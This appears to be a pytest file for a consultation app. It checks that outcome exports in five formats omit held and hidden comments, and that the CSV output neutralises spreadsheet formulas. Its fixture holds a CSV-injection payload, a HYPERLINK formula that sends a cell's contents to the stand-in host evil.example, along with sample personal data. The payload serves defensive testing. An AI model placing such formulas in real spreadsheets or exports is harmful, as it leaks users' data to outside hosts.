"""The outcome section's exports, over the web: a comment held for personal data and a hidden
one never leave the site in any format, and the CSV (opened in Excel, it has a BOM) starts no
formula even when a theme is renamed to one (issue 17 items 2 and 5)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from app.extensions import db
from deliberation.models import Theme
from tests.factories import general_thread, login, make_comment, make_user

from .test_exports import docx_text

PERSONAL = "我的電話 0912345678，身分證 A123456789"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def risky(scene):
    held = make_comment(general_thread(scene.consultation), make_user(), body=PERSONAL)
    db.session.refresh(held)
    assert held.status == "pending"  # held for personal data
    theme = db.session.scalars(
        select(Theme).where(Theme.run_id == scene.run.id, Theme.key == "T1")
    ).one()
    theme.label = FORMULA
    theme.representative_ids = [held.id, scene.c["hidden"].id, *theme.representative_ids]
    theme.pinned_ids = [held.id, *(theme.pinned_ids or [])]
    db.session.commit()
    return scene


@pytest.mark.parametrize("who", ["lead_staff", "reviewer", "admin"])
@pytest.mark.parametrize("fmt", ["csv", "json", "md", "html", "docx"])
def test_no_export_carries_held_or_hidden_text(client, risky, who, fmt):
    login(client, getattr(risky, who))
    response = client.get(f"/plans/{risky.plan.id}/outcome.{fmt}")
    assert response.status_code == 200
    body = docx_text(response.data) if fmt == "docx" else response.data.decode("utf-8-sig")
    for secret in ("0912345678", "A123456789", "HIDDENSECRET", "PENDINGSECRET"):
        assert secret not in body, (fmt, secret)


def test_the_outcome_csv_neutralises_a_formula_theme_label(client, risky):
    login(client, risky.lead_staff)
    response = client.get(f"/plans/{risky.plan.id}/outcome.csv")
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the BOM as UTF-8
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert "'" + FORMULA in [r["label"] for r in rows]
    cells = [v for r in rows for v in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
